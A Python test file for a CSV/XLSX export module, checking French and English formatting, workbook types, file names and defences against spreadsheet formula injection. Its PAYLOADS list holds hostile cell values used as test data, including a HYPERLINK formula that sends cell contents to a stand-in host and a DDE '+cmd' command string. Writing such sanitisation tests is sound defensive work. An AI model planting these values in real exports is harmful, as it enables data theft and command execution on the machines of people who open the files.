"""Files that people take away: nothing in them runs, everything in them is right."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from core import exports

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x?d="&A1)',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1+1",
    "−1",
]
COLUMNS = {
    "name": "Nom",
    "phone": "Téléphone",
    "clicks": "Clics",
    "last": "Dernier clic",
}


def _frame(
    name: str = "Hélène", phone: str | None = "+33 1 44 55 10 02"
) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": [name],
            "phone": [phone],
            "clicks": [2.5],
            "last": [dt.date(2026, 10, 6)],
            "unseen": ["not written"],
        }
    )


def _sheets(payload: bytes) -> dict[str, list[list[object]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(payload))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def _cells(payload: bytes, delimiter: str) -> list[list[str]]:
    text = payload.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_starts_like_a_formula(payload: str) -> None:
    for language, delimiter in (("fr", ";"), ("en", ",")):
        cells = _cells(exports.csv_bytes(_frame(payload), COLUMNS, language), delimiter)
        assert cells[1][0].startswith("'")
    book = exports.xlsx_bytes(_frame(payload), COLUMNS, "fr")
    sheet = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"hyperlink" not in sheet
    assert str(_sheets(book)["Aplomb"][1][0]).startswith("'")


def test_french_and_english_spellings() -> None:
    french = _cells(exports.csv_bytes(_frame(), COLUMNS, "fr"), ";")
    assert french == [
        ["Nom", "Téléphone", "Clics", "Dernier clic"],
        ["Hélène", "+33 1 44 55 10 02", "2,5", "06/10/2026"],
    ]
    english = _cells(exports.csv_bytes(_frame(), COLUMNS, "en"), ",")
    assert english[1] == ["Hélène", "+33 1 44 55 10 02", "2.5", "2026-10-06"]
    assert exports.csv_bytes(_frame(), COLUMNS, "fr").startswith(b"\xef\xbb\xbf")


def test_missing_values_are_empty_cells() -> None:
    assert _cells(exports.csv_bytes(_frame(phone=None), COLUMNS, "fr"), ";")[1][1] == ""


def test_workbook_keeps_types_and_notes() -> None:
    book = _sheets(
        exports.xlsx_bytes(_frame(), COLUMNS, "fr", sheet="À rappeler", notes=["Note"])
    )
    assert list(book) == ["À rappeler", "Notes"]
    row = dict(zip(*book["À rappeler"], strict=True))
    assert row["Clics"] == 2.5
    assert row["Dernier clic"] == dt.date(2026, 10, 6)
    assert book["Notes"] == [["Note"]]


@given(st.text(max_size=40))
def test_harmless_keeps_everything_but_controls(text: str) -> None:
    shown = exports.harmless(text)
    assert not shown.startswith(("=", "@", "\t", "\r"))
    kept = "".join(c for c in text if c >= " " or c in "\t\n\r")
    assert shown.removeprefix("'") == kept.removeprefix("'")


def test_file_name_is_plain() -> None:
    name = exports.file_name("À rappeler", "Salon d’automne / 2026", suffix="csv")
    assert name == "a-rappeler_salon-dautomne-2026.csv"
